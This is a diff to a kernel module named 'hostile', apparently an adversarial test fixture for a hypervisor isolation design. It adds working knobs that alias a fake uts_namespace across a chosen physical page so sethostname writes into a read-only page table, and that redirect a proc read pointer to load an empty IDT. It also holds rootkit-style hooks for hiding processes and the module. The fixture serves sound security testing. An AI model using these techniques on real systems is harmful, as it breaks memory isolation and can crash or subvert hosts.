@@ -44,8 +44,24 @@
  *                   takes the copy: its uname and sethostname go to physical B + that
  *                   address. Refused (-EINVAL) for a B that is not page-aligned, that
  *                   leads past the CPU's physical address width or onto the GVM's own
- *                   RAM. The ok line shows the physical address and the alias. 0 points
- *                   uts_ns at init_uts_ns again and unmaps the alias.
+ *                   RAM. The ok line shows the physical address and the alias.
+ *   alias_uts_split=B
+ *                   B: a page-aligned guest-physical address, of a page that is not the
+ *                   GVM's RAM (the same refusals). Points the same uts_ns at a fake
+ *                   uts_namespace that straddles two virtually contiguous pages (a
+ *                   vmalloc-area mapping made as ioremap makes its own): its first 192
+ *                   bytes, sysname and nodename whole, at the end of physical page B;
+ *                   the rest (user_ns from offset 392 on) in a page of GVM RAM holding
+ *                   init_uts_ns's own bytes, so user_ns is &init_user_ns. A
+ *                   sethostname through it passes the capability check on valid data
+ *                   from GVM RAM, and its first access to page B is the store of the
+ *                   new nodename: the attack on a read-only page B (the redirect VM's
+ *                   window, whose first page is the view's PML4), which a plain
+ *                   alias_uts cannot make (user_ns, read first, would be a PML4 entry).
+ *                   The ok line shows the alias and the physical range nodename lies in.
+ *                   0 (of either knob) points uts_ns at init_uts_ns again and unmaps
+ *                   the alias; setting either replaces the other's alias (that knob
+ *                   reads 0 again).
  *   hijack_idt=1    every online CPU loads a private copy of the IDT (intact), then the
  *                   page-fault gate of idt_table, the table the kernel's symbol names
  *                   and the CPU entry area maps, is pointed at asm_exc_int3. The GVM
@@ -53,6 +69,13 @@
  *                   memory sends its page faults to the breakpoint handler (hole 4).
  *                   0 restores the gate and idt_table on every CPU. A CPU brought
  *                   online meanwhile would load the hijacked table: do not hotplug.
+ *   gadget_lidt=1   points the read function of /proc/hostile_gadget (a pointer in
+ *                   this module's data, as any ops table is) at idt_invalidate, trusted
+ *                   kernel text that loads an empty IDT: a read of that file then
+ *                   switches the reading CPU off its IDT (hole 4: a descriptor-table
+ *                   loader reached through GVM data). Never read the file in the GVM
+ *                   while this is on: the next interrupt there triple-faults the CPU.
+ *                   0 points it back at the module's own read (which returns 0).
  *
  * Always there while loaded: /proc/hostile_hook, whose read runs this module's code
  * (its seq_file show function) and prints "hostile hook ran".
@@ -69,9 +92,10 @@
  * first 2 MiB of text, which also holds x64_sys_call, __x64_sys_kill and ftrace's
  * trampolines (ftrace_regs_caller).
  * Switch order for a test: hide_pid, hide_self, patch_uname, remap_uname, hook_lstar,
- * hold_uts_sem, alias_uts, hijack_idt, each back to 0 before the next is fine; module exit undoes
- * all, remap first, and gives init_task back init_nsproxy (the copy stays allocated: a
- * shadow task may still point at it).
+ * alias_uts, alias_uts_split, hijack_idt, gadget_lidt, hold_uts_sem, each back to 0
+ * before the next is fine (alias_uts_split may also replace alias_uts directly); module
+ * exit undoes all, remap first, and gives init_task back init_nsproxy (the copy stays
+ * allocated: a shadow task may still point at it).
  */
 #define pr_fmt(fmt) "hostile: " fmt
 
@@ -847,7 +871,7 @@ static int hold_uts_sem_switch(int on)
 	return 0;
 }
 
-/* ---- 7. alias_uts: the shadow task's uts_ns at a physical address we choose --- */
+/* ---- 7. alias_uts, alias_uts_split: the shadow task's uts_ns where we choose ---- */
 
 /*
  * Hole 2 of docs/SECURITY.md: a redirected call runs the trusted text on the GVM's own
@@ -871,8 +895,32 @@ static int hold_uts_sem_switch(int on)
  */
 static struct nsproxy *fake_nsproxy;	/* init_task's copy; NULL if it could not be made */
 static struct nsproxy *saved_nsproxy;	/* init_task's nsproxy at load: init_nsproxy */
-static void __iomem *uts_alias;		/* the current alias (page-aligned), or NULL */
 static unsigned long alias_uts;		/* the knob: B, or 0 */
+static unsigned long alias_uts_split;	/* the knob: B, or 0 */
+
+/* What the installed alias is made of; at most one, of either knob, at a time. */
+struct uts_alias {
+	void __iomem *io;		/* alias_uts: the ioremap (page-aligned) */
+	struct vm_struct *area;		/* alias_uts_split: its two pages of address space */
+	struct page *page;		/* alias_uts_split: its second page, GVM RAM */
+};
+static struct uts_alias cur_alias;
+
+/* Neither exported: found at load (get_vm_area, ioremap_page_range). */
+static typeof(&get_vm_area) p_get_vm_area;
+static typeof(&ioremap_page_range) p_ioremap_page_range;
+
+/*
+ * alias_uts_split: the bytes of the fake uts_namespace in the window page (the first
+ * page of the alias): sysname and nodename, [65, 130), whole, the store sethostname
+ * makes; the rest, user_ns at 392 on, is in the second page (GVM RAM, a copy of
+ * init_uts_ns's bytes). The struct's offsets are the pinned kernel's (its BTF: name
+ * 0..390, user_ns 392, ucounts 400, ns 408..432); the asserts below hold the build to
+ * them. 192 puts the namespace at page offset 0xf40 (8-aligned, as the struct is)
+ * and nodename at 0xf81..0xfc1: PML4 entries 0x1f0..0x1f8 when the page is the view's
+ * PML4, 0x1f0 the window's own slot.
+ */
+#define UTS_SPLIT_HEAD 192
 
 static void __init alias_uts_init(void)
 {
@@ -881,7 +929,7 @@ static void __init alias_uts_init(void)
 	saved_nsproxy = init_task.nsproxy;
 	fake = kmemdup(saved_nsproxy, sizeof(*fake), GFP_KERNEL);
 	if (!fake) {
-		pr_warn("no copy of init_nsproxy; alias_uts fails\n");
+		pr_warn("no copy of init_nsproxy; alias_uts and alias_uts_split fail\n");
 		return;
 	}
 	atomic_set(&fake->count, 1);	/* init_task's reference, the only one */
@@ -894,10 +942,52 @@ static void __init alias_uts_init(void)
 }
 
 /*
- * The stores to uts_ns are single aligned words (WRITE_ONCE): no redirected call sees a
- * torn pointer, and none runs meanwhile anyway (the GVM is paused during a call; a
- * call parked in uname or sethostname reads the pointer only once it holds uts_sem,
- * and copies under it without sleeping). The old alias is unmapped after the switch.
+ * Unmaps and frees an alias. free_vm_area unmaps both pages (nothing else: the window
+ * page is no RAM, and the second page is freed here, after its mapping is gone).
+ */
+static void uts_alias_free(struct uts_alias *a)
+{
+	if (a->io)
+		iounmap(a->io);
+	if (a->area)
+		free_vm_area(a->area);
+	if (a->page)
+		__free_page(a->page);
+	*a = (struct uts_alias){};
+}
+
+/*
+ * Points init_task's uts_ns at ns, in the alias a (init_uts_ns with an empty a), then
+ * frees the alias it replaces: a switch of either knob replaces the other's alias, and
+ * both knobs read 0 until the caller sets its own. The store is a single aligned word
+ * with release semantics (what the alias holds, the copy in GVM RAM, is visible before
+ * the pointer): no redirected call sees a torn pointer, and none runs meanwhile anyway
+ * (the GVM is paused during a call; a call parked in uname or sethostname reads the
+ * pointer again once it holds uts_sem, and copies under it without sleeping).
+ */
+static void uts_alias_switch(struct uts_namespace *ns, struct uts_alias *a)
+{
+	struct uts_alias old = cur_alias;
+
+	smp_store_release(&fake_nsproxy->uts_ns, ns);
+	cur_alias = *a;
+	alias_uts = 0;
+	alias_uts_split = 0;
+	uts_alias_free(&old);
+}
+
+static int uts_alias_off(void)
+{
+	struct uts_alias none = {};
+
+	uts_alias_switch(&init_uts_ns, &none);
+	snprintf(knob_note, sizeof(knob_note), " (uts_ns back at init_uts_ns %px)",
+		 &init_uts_ns);
+	return 0;
+}
+
+/*
+ * alias_uts=B: B + the physical address of init_uts_ns, through ioremap.
  * ioremap WARNs on RAM and on addresses past the CPU's physical address width, which
  * the tests' console checks would count as kernel trouble: those are refused first.
  */
@@ -907,18 +997,13 @@ static int alias_uts_switch(unsigned long base)
 	const unsigned long off = offset_in_page(uts_phys);
 	const unsigned long size = PAGE_ALIGN(off + sizeof(struct uts_namespace));
 	const u64 limit = 1ULL << boot_cpu_data.x86_phys_bits;
-	void __iomem *old = uts_alias, *map;
+	struct uts_alias a = {};
 	u64 phys;
 
 	if (!fake_nsproxy)
 		return -ENOENT;
-	if (!base) {
-		WRITE_ONCE(fake_nsproxy->uts_ns, &init_uts_ns);
-		uts_alias = NULL;
-		snprintf(knob_note, sizeof(knob_note), " (uts_ns back at init_uts_ns %px)",
-			 &init_uts_ns);
-		goto unmap_old;
-	}
+	if (!base)
+		return uts_alias_off();
 	if (offset_in_page(base)) {
 		pr_err("alias_uts: %#lx is not page-aligned\n", base);
 		return -EINVAL;
@@ -934,22 +1019,101 @@ static int alias_uts_switch(unsigned long base)
 		pr_err("alias_uts: %#llx is the GVM's own RAM; ioremap maps no RAM\n", phys);
 		return -EINVAL;
 	}
-	map = ioremap_cache(phys, size);
-	if (!map)
-		map = ioremap(phys, size);
-	if (!map) {
+	a.io = ioremap_cache(phys, size);
+	if (!a.io)
+		a.io = ioremap(phys, size);
+	if (!a.io) {
 		pr_err("alias_uts: ioremap of %#llx (%#lx bytes) refused\n", phys, size);
 		return -EINVAL;
 	}
-	WRITE_ONCE(fake_nsproxy->uts_ns, (struct uts_namespace __force *)(map + off));
-	uts_alias = map;
+	uts_alias_switch((struct uts_namespace __force *)(a.io + off), &a);
 	snprintf(knob_note, sizeof(knob_note),
 		 " (phys %#llx mapped at %px: init_task's uts_ns; init_uts_ns at phys %#lx)",
-		 phys + off, map + off, uts_phys);
-unmap_old:
-	if (old)
-		iounmap(old);
+		 phys + off, a.io + off, uts_phys);
 	return 0;
+}
+
+/*
+ * alias_uts_split=B: two pages of address space, made as ioremap makes its own
+ * (get_vm_area with VM_IOREMAP, which /proc/kcore and vread skip as a hole, then
+ * ioremap_page_range), the first mapping physical page B, the second a fresh page of
+ * GVM RAM; init_task's uts_ns is the namespace UTS_SPLIT_HEAD bytes before the second.
+ * So a sethostname through it reads user_ns (the capability check: &init_user_ns,
+ * which passes for the shadow's init credentials) from GVM RAM, and the first access
+ * it makes to page B is the store of the new nodename. ioremap_page_range checks
+ * nothing about what it maps (in 6.1: no RAM test, no WARN; that is ioremap's) and
+ * maps both pages write-back, as the direct map maps the RAM page: no memtype
+ * conflict; the whole range is fresh, so its BUG_ON on a present entry cannot fire.
+ * B must not be the GVM's RAM (the attack is on a page the GVM does not have; in the
+ * redirect VM a page of its own RAM would be just that) and must fit the CPU's physical
+ * address width. An uname through the alias reads sysname, nodename and most of
+ * release from page B: in the redirect VM that is the window, readable (garbage names).
+ */
+static int alias_uts_split_switch(unsigned long b)
+{
+	const u64 limit = 1ULL << boot_cpu_data.x86_phys_bits;
+	const size_t tail = sizeof(struct uts_namespace) - UTS_SPLIT_HEAD;
+	const unsigned long node_at = PAGE_SIZE - UTS_SPLIT_HEAD +
+		offsetof(struct uts_namespace, name.nodename);	/* in page B */
+	const unsigned long user_ns_at =
+		offsetof(struct uts_namespace, user_ns) - UTS_SPLIT_HEAD;	/* in the RAM page */
+	struct uts_alias a = {};
+	unsigned long va;
+	int ret;
+
+	BUILD_BUG_ON(offsetofend(struct uts_namespace, name.nodename) > UTS_SPLIT_HEAD);
+	BUILD_BUG_ON(offsetof(struct uts_namespace, user_ns) < UTS_SPLIT_HEAD);
+	BUILD_BUG_ON(UTS_SPLIT_HEAD % __alignof__(struct uts_namespace));
+	if (!fake_nsproxy)
+		return -ENOENT;
+	if (!b)
+		return uts_alias_off();
+	if (!p_get_vm_area || !p_ioremap_page_range)
+		return -ENOENT;
+	if (offset_in_page(b)) {
+		pr_err("alias_uts_split: %#lx is not page-aligned\n", b);
+		return -EINVAL;
+	}
+	if (b >= limit || PAGE_SIZE > limit - b) {
+		pr_err("alias_uts_split: %#lx is past the %u-bit physical address space\n",
+		       b, boot_cpu_data.x86_phys_bits);
+		return -EINVAL;
+	}
+	if (region_intersects(b, PAGE_SIZE, IORESOURCE_SYSTEM_RAM, IORES_DESC_NONE) !=
+	    REGION_DISJOINT) {
+		pr_err("alias_uts_split: %#lx is the GVM's own RAM\n", b);
+		return -EINVAL;
+	}
+	a.page = alloc_page(GFP_KERNEL | __GFP_ZERO);
+	if (!a.page)
+		return -ENOMEM;
+	/* user_ns, ucounts, ns and the end of name: init_uts_ns's own. Unlocked, as
+	 * fake_uname copies: only a racing setdomainname of the GVM could tear a string
+	 * here (domainname), which nothing the attack runs reads. */
+	memcpy(page_address(a.page), (const char *)&init_uts_ns + UTS_SPLIT_HEAD, tail);
+	a.area = p_get_vm_area(2 * PAGE_SIZE, VM_IOREMAP);
+	if (!a.area) {
+		ret = -ENOMEM;
+		goto fail;
+	}
+	va = (unsigned long)a.area->addr;
+	ret = p_ioremap_page_range(va, va + PAGE_SIZE, b, PAGE_KERNEL);
+	if (!ret)
+		ret = p_ioremap_page_range(va + PAGE_SIZE, va + 2 * PAGE_SIZE,
+					   page_to_phys(a.page), PAGE_KERNEL);
+	if (ret)
+		goto fail;
+	uts_alias_switch((struct uts_namespace *)(va + PAGE_SIZE - UTS_SPLIT_HEAD), &a);
+	snprintf(knob_note, sizeof(knob_note),
+		 " (uts_ns %px; nodename at phys [%#lx, %#lx), user_ns at phys %#llx)",
+		 (void *)(va + PAGE_SIZE - UTS_SPLIT_HEAD), b + node_at,
+		 b + node_at + sizeof_field(struct new_utsname, nodename),
+		 (u64)page_to_phys(a.page) + user_ns_at);
+	return 0;
+fail:
+	pr_err("alias_uts_split: mapping %#lx and a page of RAM failed: %d\n", b, ret);
+	uts_alias_free(&a);
+	return ret;
 }
 
 /* Module exit: init_task back on init_nsproxy; the copy stays, on init_uts_ns. */
@@ -958,9 +1122,7 @@ static void alias_uts_exit(void)
 	if (!fake_nsproxy)
 		return;
 	WRITE_ONCE(fake_nsproxy->uts_ns, &init_uts_ns);
-	if (uts_alias)
-		iounmap(uts_alias);
-	uts_alias = NULL;
+	uts_alias_free(&cur_alias);
 	task_lock(&init_task);
 	WRITE_ONCE(init_task.nsproxy, saved_nsproxy);
 	task_unlock(&init_task);
@@ -1059,6 +1221,35 @@ static int hook_show(struct seq_file *m, void *v)
 	return 0;
 }
 
+/* /proc/hostile_gadget: its read function is a pointer gadget_lidt aims. */
+static int gadget_lidt;
+static unsigned long a_idt_invalidate;
+
+static ssize_t gadget_read(struct file *file, char __user *buf, size_t count,
+			   loff_t *ppos)
+{
+	return 0;
+}
+
+static struct proc_ops gadget_ops = {	/* not const: the knob rewrites it */
+	.proc_read = gadget_read,
+};
+
+static int gadget_lidt_switch(int on)
+{
+	if (on != 0 && on != 1)
+		return -EINVAL;
+	if (on && !a_idt_invalidate)
+		return -ENOENT;
+	/* proc_reg_read loads the pointer at each read: one aligned store switches it. */
+	WRITE_ONCE(gadget_ops.proc_read,
+		   on ? (typeof(gadget_ops.proc_read))a_idt_invalidate : gadget_read);
+	if (on)
+		snprintf(knob_note, sizeof(knob_note), " (proc_read -> idt_invalidate %px)",
+			 (void *)a_idt_invalidate);
+	return 0;
+}
+
 /* ---- the knobs ------------------------------------------------------------ */
 
 static int knob_set(const char *val, const struct kernel_param *kp,
@@ -1107,9 +1298,13 @@ KNOB(hold_uts_sem, hold_uts_sem_switch);
 MODULE_PARM_DESC(hold_uts_sem, "1 = uts_sem held for writing: uname, sethostname and co. sleep until 0");
 KNOB(hijack_idt, hijack_idt_switch);
 MODULE_PARM_DESC(hijack_idt, "1 = CPUs on a private IDT copy, idt_table's #PF gate -> asm_exc_int3");
+KNOB(gadget_lidt, gadget_lidt_switch);
+MODULE_PARM_DESC(gadget_lidt, "1 = /proc/hostile_gadget's read function -> idt_invalidate (loads an empty IDT)");
 
-/* alias_uts takes an address, an unsigned long: knob_set's steps for that type. */
-static int set_alias_uts(const char *val, const struct kernel_param *kp)
+/* alias_uts and alias_uts_split take an address, an unsigned long: knob_set's steps
+ * for that type. */
+static int knob_set_ulong(const char *val, const struct kernel_param *kp,
+			  int (*sw)(unsigned long))
 {
 	unsigned long v;
 	int ret;
@@ -1122,7 +1317,7 @@ static int set_alias_uts(const char *val, const struct kernel_param *kp)
 	if (!ready || exiting)
 		ret = -EBUSY;	/* not at insmod time: switch after load */
 	else
-		ret = alias_uts_switch(v);
+		ret = sw(v);
 	if (!ret)
 		*(unsigned long *)kp->arg = v;
 	if (ret)
@@ -1133,11 +1328,18 @@ static int set_alias_uts(const char *val, const struct kernel_param *kp)
 	return ret;
 }
 
-static const struct kernel_param_ops alias_uts_ops = {
-	.set = set_alias_uts, .get = param_get_ulong,
-};
-module_param_cb(alias_uts, &alias_uts_ops, &alias_uts, 0644);
+#define KNOB_ULONG(name, sw)						\
+	static int set_##name(const char *val, const struct kernel_param *kp) \
+	{ return knob_set_ulong(val, kp, sw); }				\
+	static const struct kernel_param_ops name##_ops = {		\
+		.set = set_##name, .get = param_get_ulong,		\
+	};								\
+	module_param_cb(name, &name##_ops, &name, 0644)
+
+KNOB_ULONG(alias_uts, alias_uts_switch);
 MODULE_PARM_DESC(alias_uts, "B = the uts_ns of init_task's (the shadow task's) nsproxy at physical B + that of init_uts_ns (0 = off)");
+KNOB_ULONG(alias_uts_split, alias_uts_split_switch);
+MODULE_PARM_DESC(alias_uts_split, "B = that uts_ns straddling physical page B (sysname, nodename) and a page of GVM RAM (user_ns on) (0 = off)");
 
 /* ---- load and unload ------------------------------------------------------ */
 
@@ -1179,9 +1381,14 @@ static int __init hostile_init(void)
 	p_uts_sem = (struct rw_semaphore *)resolve("uts_sem");
 	p_idt_table = (gate_desc *)resolve("idt_table");
 	a_asm_exc_int3 = resolve("asm_exc_int3");
+	p_get_vm_area = (typeof(p_get_vm_area))resolve("get_vm_area");
+	p_ioremap_page_range = (typeof(p_ioremap_page_range))resolve("ioremap_page_range");
+	a_idt_invalidate = resolve("idt_invalidate");
 	alias_uts_init();
 	if (!proc_create_single("hostile_hook", 0444, NULL, hook_show))
 		pr_warn("/proc/hostile_hook could not be made\n");
+	if (!proc_create("hostile_gadget", 0444, NULL, &gadget_ops))
+		pr_warn("/proc/hostile_gadget could not be made\n");
 
 	mutex_lock(&knob_lock);
 	ready = true;
@@ -1197,6 +1404,7 @@ static void __exit hostile_exit(void)
 	if (hook_lstar)
 		hook_lstar_off();
 	remove_proc_entry("hostile_hook", NULL);
+	remove_proc_entry("hostile_gadget", NULL);
 	if (hijack_idt)
 		hijack_idt_off();
 	if (uts_holder) {
